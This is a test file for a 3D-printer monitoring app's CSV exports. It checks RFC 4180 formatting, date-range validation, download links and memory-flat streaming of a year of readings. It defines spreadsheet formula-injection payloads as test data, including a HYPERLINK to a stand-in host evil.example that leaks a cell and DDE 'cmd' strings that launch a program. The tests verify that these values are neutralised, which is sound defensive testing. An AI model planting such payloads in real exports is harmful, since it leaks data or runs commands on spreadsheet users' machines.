// CSV exports: readings over a range and prints with their weather, from the pages and the API; RFC 4180 that
// Python's csv module reads back, hostile names made inert for spreadsheets, and a year of readings streamed.
import { describe, expect, test } from "bun:test";
import { useApp } from "./app-fixture.ts";
import { emitWithAck, getPage } from "./helpers.ts";
import { requirePython } from "./python.ts";

/** Names a printer, a camera Pi's token and a print could carry, each of which a spreadsheet would run. */
const EVIL_PRINTER = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const EVIL_DEVICE = "+cmd|' /C calc'!A0";
const EVIL_JOB = '@SUM(1+1)*cmd|" /C calc"!A0';
const EVIL_FILE = '-2+3,\r\n"quoted"';
const TAB_JOB = "\tsneaky";

const fx = useApp({
  config: {
    printers: [{ name: "A1 left", model: "A1" }, { name: EVIL_PRINTER, model: "P1S" }, { name: "Year" }] as never,
  },
});
const api = (path: string, headers: Record<string, string> = {}) =>
  fetch(`${fx.app.url}${path}`, { headers: { cookie: fx.cookie, ...headers } });

/** Python's csv module reads the text; its rows come back as JSON. */
function pythonRows(text: string): string[][] {
  requirePython(["csv", "json"]);
  const script =
    "import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline='')))))";
  const p = Bun.spawnSync(["/usr/bin/python3", "-c", script], { stdin: new TextEncoder().encode(text) });
  if (p.exitCode !== 0) throw new Error(p.stderr.toString());
  return JSON.parse(p.stdout.toString()) as string[][];
}

async function evilDevice(): Promise<void> {
  const res = await fetch(`${fx.app.url}/api/printers/2/tokens`, {
    method: "POST",
    headers: { cookie: fx.cookie, "content-type": "application/json" },
    body: JSON.stringify({ name: EVIL_DEVICE }),
  });
  expect(res.status).toBe(201);
  const { token } = (await res.json()) as { token: string };
  const device = await fx.client({ cookie: "", auth: { token } });
  for (const [t, h] of [
    [-4.5, 40],
    [21.25, 41.5],
  ] as const)
    expect(await emitWithAck(device, "temphum", { temperature: t, humidity: h })).toMatchObject({ ok: true });
}

describe("readings", () => {
  test("a printer's readings over a range of days come oldest first, one row each, as RFC 4180 with CRLF", async () => {
    await evilDevice();
    const res = await api("/api/printers/2/readings.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="printer-2-readings-start_now.csv"');
    const text = await res.text();
    const lines = text.split("\r\n");
    expect(lines[0]).toBe("time,printer,device,temperature_c,humidity_pct");
    expect(lines.at(-1)).toBe("");
    expect(lines).toHaveLength(4);
    const rows = pythonRows(text);
    expect(rows.slice(1).map((r) => [r[3], r[4]])).toEqual([
      ["-4.5", "40"],
      ["21.25", "41.5"],
    ]);
    expect(rows[1]![0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}[+-]\d\d:\d\d$/);
  });

  test("hostile printer and device names are quoted and prefixed with ' so a spreadsheet shows them as text", async () => {
    const text = await (await api("/api/printers/2/readings.csv")).text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    const rows = pythonRows(text);
    for (const row of rows.slice(1)) {
      expect(row[1]).toBe(`'${EVIL_PRINTER}`);
      expect(row[2]!.startsWith(`'${EVIL_DEVICE} #`)).toBe(true);
    }
    // The numbers stay numbers: a negative temperature is not neutralised.
    expect(rows[1]![3]).toBe("-4.5");
  });

  test("the range is whole days in the configured zone; a device narrows it; bad input is a 400 that says why", async () => {
    const today = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Helsinki" }).format(new Date());
    const inRange = pythonRows(await (await api(`/api/printers/2/readings.csv?from=${today}&to=${today}`)).text());
    expect(inRange).toHaveLength(3);
    const before = pythonRows(await (await api("/api/printers/2/readings.csv?from=2020-01-01&to=2020-12-31")).text());
    expect(before).toEqual([["time", "printer", "device", "temperature_c", "humidity_pct"]]);
    expect(pythonRows(await (await api("/api/printers/2/readings.csv?device=1")).text())).toHaveLength(1);
    const bad = await api("/api/printers/2/readings.csv?from=2025-02-30");
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({ error: "from must be a date YYYY-MM-DD" });
    expect((await api("/api/printers/2/readings.csv?from=2025-02-02&to=2025-02-01")).status).toBe(400);
    expect((await api("/api/printers/99/readings.csv")).status).toBe(404);
    expect((await fetch(`${fx.app.url}/api/printers/2/readings.csv`)).status).toBe(401);
    const page = await getPage(fx.app, "/printers/2/readings.csv?to=nonsense", fx.cookie);
    expect(page.status).toBe(400);
    expect(page.headers.get("content-type")).toContain("text/html");
  });

  test("from the pages: the chart links its days' CSV, which the session downloads", async () => {
    const page = await getPage(fx.app, "/printers/2", fx.cookie);
    const link = /href="(\/printers\/2\/readings\.csv\?from=[\d-]+&(?:amp;)?to=[\d-]+)"/.exec(page.text);
    expect(link).not.toBeNull();
    const res = await getPage(fx.app, link![1]!.replace(/&amp;/g, "&"), fx.cookie);
    expect(res.status).toBe(200);
    expect(pythonRows(res.text)[0]).toEqual(["time", "printer", "device", "temperature_c", "humidity_pct"]);
    // Logged out, the page route sends the browser to log in.
    expect((await getPage(fx.app, "/printers/2/readings.csv")).status).toBe(303);
  });
});

describe("prints", () => {
  test("the history CSV has each print with its weather; hostile names are inert; Python reads every field back", async () => {
    const jobs = fx.app.store.jobs;
    const started = Date.now() - 3_600_000;
    const a = jobs.insert(2, EVIL_JOB, EVIL_FILE, started);
    const row = jobs.byId(a)!;
    jobs.saveWeather({
      ...row,
      temp_min: 20,
      temp_max: 24,
      temp_sum: 66,
      hum_min: 40,
      hum_max: 50,
      hum_sum: 135,
      readings: 3,
    });
    jobs.update({
      ...row,
      layer: 7,
      total_layers: 9,
      errors: JSON.stringify([{ code: "0300_0100_0001_0007", kind: "hms" }]),
    });
    jobs.close(a, started + 1_800_000, "failed");
    jobs.insert(1, TAB_JOB, "plain.3mf", started + 1000);
    const text = await (await api("/api/jobs.csv")).text();
    const rows = pythonRows(text);
    expect(rows[0]).toEqual([
      "id",
      "printer",
      "name",
      "file",
      "started_at",
      "ended_at",
      "outcome",
      "duration_s",
      "paused_s",
      "layer",
      "total_layers",
      "readings",
      "temp_min_c",
      "temp_avg_c",
      "temp_max_c",
      "hum_min_pct",
      "hum_avg_pct",
      "hum_max_pct",
      "errors",
    ]);
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
    const evil = byId.get(String(a))!;
    expect(evil.slice(1, 4)).toEqual([`'${EVIL_PRINTER}`, `'${EVIL_JOB}`, `'${EVIL_FILE}`]);
    expect(evil.slice(6)).toEqual([
      "failed",
      "1800",
      "0",
      "7",
      "9",
      "3",
      "20",
      "22",
      "24",
      "40",
      "45",
      "50",
      "0300_0100_0001_0007",
    ]);
    expect(byId.get(String(a + 1))![2]).toBe(`'${TAB_JOB}`);
    // Only printer 2's when asked; a printer that does not exist is a 400.
    const two = pythonRows(await (await api("/api/jobs.csv?printer_id=2")).text());
    expect(two.slice(1).map((r) => r[0])).toEqual([String(a)]);
    expect((await api("/api/jobs.csv?printer_id=77")).status).toBe(400);
  });

  test("the history pages and a print's page link their CSV downloads", async () => {
    const history = await getPage(fx.app, "/history", fx.cookie);
    expect(history.text).toContain('href="/history.csv"');
    expect(pythonRows((await getPage(fx.app, "/history.csv", fx.cookie)).text).length).toBeGreaterThan(2);
    const one = await getPage(fx.app, "/printers/2/history", fx.cookie);
    expect(one.text).toContain('href="/printers/2/history.csv"');
    const id = pythonRows((await getPage(fx.app, "/printers/2/history.csv", fx.cookie)).text)[1]![0];
    const job = await getPage(fx.app, `/jobs/${id}`, fx.cookie);
    expect(job.text).toContain(`href="/jobs/${id}/readings.csv"`);
    const readings = await getPage(fx.app, `/jobs/${id}/readings.csv`, fx.cookie);
    expect(readings.status).toBe(200);
    expect(readings.text.startsWith("time,printer,device,temperature_c,humidity_pct\r\n")).toBe(true);
  });
});

describe("a year of readings", () => {
  test("is streamed page by page: the heap stays flat while ~525,000 rows go out", async () => {
    // A reading a minute for a year, on printer 3, written straight into the database (seeding, not the path tested).
    const db = fx.app.store.db;
    const start = Date.UTC(2025, 0, 1) - 2 * 3_600_000;
    const rows = 365 * 24 * 60;
    const insert = db.prepare(
      "INSERT INTO readings (printer_id, device_id, recorded_at, temperature, humidity) VALUES (3, 1, ?, ?, ?)",
    );
    db.transaction(() => {
      for (let i = 0; i < rows; i++) insert.run(start + i * 60_000, 20 + (i % 100) / 10, 40 + (i % 200) / 10);
    })();
    insert.finalize();

    Bun.gc(true);
    const heap0 = process.memoryUsage().heapUsed;
    const rss0 = process.memoryUsage().rss;
    let peakHeap = 0;
    let peakRss = 0;
    const res = await api("/api/printers/3/readings.csv?from=2025-01-01&to=2025-12-31");
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let lines = 0;
    let bytes = 0;
    let tail = "";
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.length;
      const text = tail + decoder.decode(value, { stream: true });
      const cut = text.lastIndexOf("\r\n");
      lines += text.slice(0, cut + 2).split("\r\n").length - 1;
      tail = text.slice(cut + 2);
      if (++chunks % 25 === 0) {
        // Live memory, not garbage not yet collected: what a whole year held at once would show.
        Bun.gc(true);
        const m = process.memoryUsage();
        peakHeap = Math.max(peakHeap, m.heapUsed - heap0);
        peakRss = Math.max(peakRss, m.rss - rss0);
      }
    }
    expect(tail).toBe("");
    expect(lines).toBe(rows + 1);
    // ~25 MB of CSV went out; holding the year's rows as objects would take well over 50 MB of heap.
    expect(bytes).toBeGreaterThan(20_000_000);
    expect(chunks).toBeGreaterThan(25);
    expect(peakHeap).toBeLessThan(16 * 1024 * 1024);
    // RSS is only a loose bound: the allocator keeps freed pages.
    expect(peakRss).toBeLessThan(150 * 1024 * 1024);
  }, 120_000);
});
